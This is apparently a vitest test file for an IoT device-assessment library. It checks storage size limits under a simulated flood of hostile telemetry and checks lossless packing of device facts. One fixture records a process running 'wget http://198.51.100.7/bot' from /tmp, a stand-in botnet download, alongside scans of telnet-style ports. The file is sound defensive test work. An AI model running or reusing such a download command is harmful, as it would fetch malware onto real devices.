import { expect, test } from 'vitest'
import { packState, unpackState } from '@/lib/assessment/device-state'
import type { DeviceState } from '@/lib/assessment/device-state'
import { aDevice, takeRecord } from '@/lib/testing/a-device'
import {
  aCertificate,
  aClaim,
  aFileChange,
  aLogin,
  aProcess,
  anEvent,
  aRestart,
  someFailedLogins,
} from '@/lib/testing/some-events'
import { aFlow, aLookup, anInboundFlow, DEVICE_IP, hostOf, someFlows } from '@/lib/testing/some-flows'
import { aReport, listening, someReports } from '@/lib/testing/some-reports'
import { newFacts, type DeviceFacts } from '../facts/facts'
import { packCold, unpackCold } from './pack-cold'
import { newTrafficFacts } from '../facts/traffic-facts'

const HUGE = 'x'.repeat(65_536)
const stateOf = (facts: DeviceFacts): DeviceState => ({
  deviceId: 'camera',
  facts,
  findings: [],
  openMinute: facts.clock,
  scored: {
    asOf: facts.clock ?? 0,
    nextChangeAt: facts.clock,
    checks: 'zzzzzzz',
    relations: 'zzzzzzz',
    policy: '2026.2-1000',
  },
  scoredOpen: {
    asOf: facts.clock ?? 0,
    nextChangeAt: facts.clock,
    checks: 'zzzzzzz',
    relations: 'zzzzzzz',
    policy: '2026.2-1000',
  },
})

const ipv6Of = (index: number): string =>
  `2a00:1450:4001:81b:ffff:ffff:${(index >> 8).toString(16)}:${(0x1000 + index).toString(16)}`

/** Everything a stranger can do at once: floods of endpoints, ports, hosts, sources, users, paths and long texts. */
const attacked = (): DeviceFacts => {
  const facts = newFacts()
  const big = Number.MAX_SAFE_INTEGER
  const shared = { shared: true, sensor: 'a' }
  for (let i = 0; i < 60; i += 1) {
    takeRecord(facts, anEvent(i, { kind: 'error', component: HUGE, message: HUGE }))
    const file = aFileChange(i, `/bin/${String(i)}${HUGE}`)
    const process = aProcess(i, `/tmp/${String(i)}${HUGE}`, `${String(i)}${HUGE}`)
    const records = [file, process, aLogin(i, 'failure', `${String(i)}${HUGE}`), aRestart(i, 'requested')]
    for (const record of records) takeRecord(facts, record)
  }
  const certificates = Array.from({ length: 100 }, (_, i) =>
    aCertificate({
      fingerprint: `${String(i)}${HUGE}`,
      signatureAlgorithm: HUGE,
      subject: HUGE,
      keyBits: 65_536,
      notBefore: 8e12,
      shared: true,
      selfSigned: true,
    }),
  )
  const services = Array.from({ length: 1_000 }, (_, i) => ({
    transport: 'udp' as const,
    port: 64_000 - i,
    name: HUGE,
  }))
  const software = Array.from({ length: 1_000 }, () => ({ name: HUGE, version: HUGE }))
  const accounts = Array.from({ length: 8 }, (_, i) => `${String(i)}${HUGE}`)
  takeRecord(
    facts,
    aClaim(
      {
        firmware: { version: `2${HUGE}`, releasedAt: null },
        login: { lockout: true, accounts: accounts.slice(4) },
        boot: { secure: true },
        updates: { signed: true, rollbackProtected: true },
        logging: { enabled: true },
        system: { readOnly: true },
        credentials: 'unique',
        debugInterface: false,
      },
      60,
    ),
  )
  takeRecord(
    facts,
    aClaim(
      {
        type: HUGE,
        vendor: HUGE,
        model: HUGE,
        software,
        services,
        certificates,
        credentials: 'none-required',
        updates: { signed: false, automatic: false, lastCheckedAt: 8e12, rollbackProtected: false },
        boot: { secure: false },
        system: { readOnly: false, servicesAsRoot: true, watchdog: false },
        logging: { enabled: false, remote: false },
        safety: { rateLimited: false, interlock: false },
        debugInterface: true,
        firmware: { version: HUGE, releasedAt: 8e12 },
        operatingSystem: { name: HUGE, version: HUGE, supportEndsAt: 8e12 },
        login: { lockout: false, accounts, rotatedAt: 8e12 },
        network: {
          addresses: ['100.200.100.200'],
          egress: 'unrestricted',
          isolatedFromPeers: false,
          portForwarding: true,
          ipForwarding: true,
          wirelessSecurity: 'open',
        },
        messaging: { publish: [`#${HUGE}`], subscribe: [`+${HUGE}`] },
        encryption: { tlsMinimum: 'none', ciphers: [`RC4-${HUGE}`], storageEncrypted: false, keyStorage: 'encrypted' },
      },
      61,
    ),
  )
  for (let i = 0; i < 400; i += 1) {
    const ports = Array.from({ length: 300 }, (_, n): [number, string] => [((i * 331 + n * 197) % 65_000) + 1, HUGE])
    const network = { bytesIn: big - i, bytesOut: big - i * 2, packetsIn: big - i, packetsOut: big - i }
    takeRecord(
      facts,
      aReport({
        after: 2 + i * 5,
        tcp: { ...listening(...ports), total: big },
        udp: { ...listening(...ports), total: big - 1 },
        connections: big,
        network,
      }),
    )
  }
  const from = 400 * 300 + 120
  for (let round = 0; round < 2; round += 1) {
    for (let n = 0; n < 2_000; n += 1) {
      const after = from + round * 300 + n * 0.15
      const port = [23, 2323, 81, 8080, 37215, 52869][n % 6] ?? 23
      const one = {
        after,
        to: ipv6Of(n),
        port,
        result: 'unanswered' as const,
        sentPackets: 2_000_000,
        sent: big,
        received: big,
        lastingMs: 2_000,
        service: HUGE,
      }
      takeRecord(facts, aFlow(one), shared)
      takeRecord(facts, aFlow({ ...one, to: ipv6Of(n % 4), port: 30_000 + (n % 5_000) }), shared)
      takeRecord(
        facts,
        aFlow({
          ...one,
          to: ipv6Of(n % 25),
          port: 60_000,
          result: 'answered',
          service: '',
          lastingMs: 4_000_000_000 + n,
        }),
        shared,
      )
      takeRecord(facts, aFlow({ after, to: ipv6Of(n % 9), port: 22, service: 'ssh' }), shared)
      takeRecord(facts, aFlow({ after, to: ipv6Of(n), transport: 'icmp', port: 0, fromPort: 8 }), shared)
      takeRecord(facts, aLookup(after), { shared: true, sensor: String(n) })
      takeRecord(facts, anInboundFlow({ after, from: ipv6Of(n % 7), port: 22 }), shared)
      takeRecord(facts, anInboundFlow({ after, from: ipv6Of(n), port: 1 + (n % 30_000) }), shared)
      takeRecord(facts, anInboundFlow({ after, from: ipv6Of(n), port: 1 + (n % 30_000), result: 'refused' }), shared)
    }
  }
  return facts
}

test(
  'whatever is thrown at a device, its cold facts take at most 8 kB and as much again, its hot row 512 bytes',
  { timeout: 60_000 },
  () => {
    const facts = attacked()
    const { cold, hot } = packState(stateOf(facts))
    expect(packCold({ ...facts, traffic: newTrafficFacts() }, facts.clock).length).toBeLessThanOrEqual(8_192)
    expect(cold?.length).toBeLessThanOrEqual(16_384)
    expect(Buffer.byteLength(hot)).toBeLessThanOrEqual(512)
  },
)

test('facts come back from storage the same, to the last digit', () => {
  const facts = aDevice([
    ...someReports(40, (i) => ({
      tcp: listening(443, [8_080, 'lo'], 1_000 + i),
      network: { bytesOut: 123_456_789 + i },
    })),
    ...someFailedLogins(9),
    aLogin(10, 'success'),
    aFileChange(11, '/etc/passwd'),
    aProcess(12, '/tmp/bot', 'wget http://198.51.100.7/bot'),
    aRestart(13, 'update'),
    anEvent(13, { kind: 'error', component: 'rtsp', message: 'broken pipe' }),
    aClaim(
      { firmware: { version: '2.4.2', releasedAt: null }, boot: { secure: true }, login: { accounts: ['a'] } },
      13,
    ),
    aClaim({ boot: { secure: false }, login: { lockout: true, accounts: ['a', 'b'] } }, 13),
    aClaim(
      {
        credentials: 'default',
        debugInterface: false,
        firmware: { version: '2.4.1', releasedAt: null },
        operatingSystem: { name: 'Linux', version: '5.10', supportEndsAt: 1_798_675_200_000 },
        encryption: { tlsMinimum: '1.2', ciphers: ['RC4-SHA'], storageEncrypted: true, keyStorage: 'hardware' },
        login: { lockout: true },
        updates: { signed: true, lastCheckedAt: 1_770_000_000_000 },
        system: { readOnly: true },
        logging: { enabled: true },
        network: { addresses: ['10.0.0.7'], wirelessSecurity: 'wpa3', isolatedFromPeers: false },
        messaging: { publish: ['site/+/status'], subscribe: ['#'] },
        safety: { interlock: true },
        services: [
          { transport: 'tcp', port: 554, name: 'rtsp', authentication: 'none' },
          { transport: 'udp', port: 5_353, name: '' },
        ],
        certificates: [aCertificate(), aCertificate({ notBefore: 1_600_000_000_000, shared: false, selfSigned: true })],
      },
      14,
    ),
    ...someFlows(60, 11, (i) => ({ to: hostOf(i), port: 23, result: 'unanswered' })),
    ...someFlows(60, 61, (i) => ({ sent: 3_000 + i * 17 })),
    aFlow({ to: '2001:db8::1', transport: 'udp', port: 5_683 }),
    aFlow({ to: hostOf(3), transport: 'icmp', fromPort: 8, port: 0 }),
    ...someFlows(12, 61, () => ({ from: hostOf(7), to: DEVICE_IP, port: 22, service: 'ssh' })),
    aLookup(700),
  ])
  const { reports, flows, traffic, events, profile, listening: open } = facts
  expect(unpackCold(packCold(facts, facts.clock))).toEqual({
    reports,
    flows,
    traffic,
    events,
    profile,
    listening: open,
  })
  const { hot, cold } = packState(stateOf(facts))
  expect(unpackState('camera', { hot, cold, findings: [] }).facts).toEqual({ ...facts, coldChanged: false })
})
